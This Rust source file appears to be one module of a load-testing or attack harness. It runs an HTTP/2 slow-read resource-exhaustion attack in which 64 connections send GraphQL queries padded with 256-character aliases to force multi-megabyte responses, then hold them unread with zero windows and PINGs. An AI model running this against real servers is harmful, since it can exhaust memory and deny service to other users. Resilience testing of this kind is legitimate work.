//! Responses as large as possible that are never read: HTTP/2 streams with a window of 0, on connections that
//! are kept alive by PINGs. On every fourth connection a byte is read now and then.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::json;

use super::http2::{Event, Http2};
use super::{Counts, Target, count, run_attackers};
use crate::Outcome;
use crate::load::pause;

const CONNECTIONS: u32 = 64;
/// `MAX_STREAMS`.
const STREAMS: usize = 100;
const TICK: Duration = Duration::from_millis(100);
/// Lists of a document, and fields of each card: a response of 3.9 MB for 468 points, because names
/// are repeated for each card.
const LISTS: usize = 6;
const VOICES: [&str; 14] = [
    "PIP_BOY",
    "VAULT_DWELLER",
    "WASTELAND_TRADER",
    "CODSWORTH",
    "SUPER_MUTANT",
    "GHOUL",
    "RAIDER",
    "BROTHERHOOD_SCRIBE",
    "BROTHERHOOD_PALADIN",
    "NCR_RANGER",
    "LEGION_CENTURION",
    "MINUTEMAN",
    "RAILROAD_AGENT",
    "INSTITUTE_SCIENTIST",
];
/// `MAX_NAME_CHARACTERS`.
const NAME_LENGTH: usize = 256;

/// A connection of the attacker.
struct Hoard {
    http2: Http2,
    open: BTreeSet<u32>,
    is_read: bool,
}

pub fn run(target: &Target<'_>) -> Outcome<Counts> {
    let next = AtomicUsize::new(0);
    let client = |number: u32| -> Outcome<Counts> {
        let mut counts = Counts::new();
        while !target.is_over() {
            match Http2::open(target.from, target.address) {
                Ok(http2) => {
                    count(&mut counts, "connections");
                    let is_read = number.is_multiple_of(4);
                    let mut hoard = Hoard { http2, open: BTreeSet::new(), is_read };
                    if hoard.hold(target, &next, &mut counts).is_err() {
                        count(&mut counts, "connections closed");
                    }
                    let unread = counts.entry("streams open at the end".to_owned()).or_default();
                    *unread += if target.is_over() { hoard.open.len() } else { 0 };
                }
                Err(_) => count(&mut counts, "not connected"),
            }
            pause(TICK);
        }
        Ok(counts)
    };
    run_attackers(CONNECTIONS, client)
}

impl Hoard {
    /// Holds the connection until the attack is over, or the server closes it.
    fn hold(
        &mut self,
        target: &Target<'_>,
        next: &AtomicUsize,
        counts: &mut Counts,
    ) -> std::io::Result<()> {
        let mut body = document(next.fetch_add(1, Ordering::Relaxed));
        while !target.is_over() {
            for event in self.http2.receive()? {
                self.note(&event, counts);
            }
            while self.open.len() < STREAMS
                && let Some(stream) = self.http2.request(body.as_bytes())?
            {
                self.open.insert(stream);
                body = document(next.fetch_add(1, Ordering::Relaxed));
            }
            self.http2.ping()?;
            if self.is_read {
                let open: Vec<u32> = self.open.iter().copied().collect();
                self.http2.accept_a_byte(&open)?;
            }
            pause(TICK);
        }
        Ok(())
    }

    fn note(&mut self, event: &Event, counts: &mut Counts) {
        match event {
            Event::Response { status } => count(counts, status.to_string()),
            Event::Ended(stream) => {
                self.open.remove(stream);
            }
            Event::Reset { stream, code } => {
                self.open.remove(stream);
                count(counts, format!("streams reset with {code}"));
            }
            Event::GoAway { code } => count(counts, format!("GOAWAY with {code}")),
        }
    }
}

/// The body of a request that differs from those with other numbers.
fn document(number: usize) -> String {
    let mut text = "{".to_owned();
    for list in 0..LISTS {
        let _ = write!(text, " l{list}: cards(first: 78) {{ nodes {{ ...F }} }}");
    }
    text += " } fragment F on Card {";
    for (voice, index) in VOICES.iter().zip(0..) {
        let name = format!("v{index}_{number}_");
        let name = format!("{name:x<NAME_LENGTH$}");
        let _ = write!(text, " {name}: interpretation(voice: {voice})");
    }
    text += " }";
    json!({ "query": text }).to_string()
}
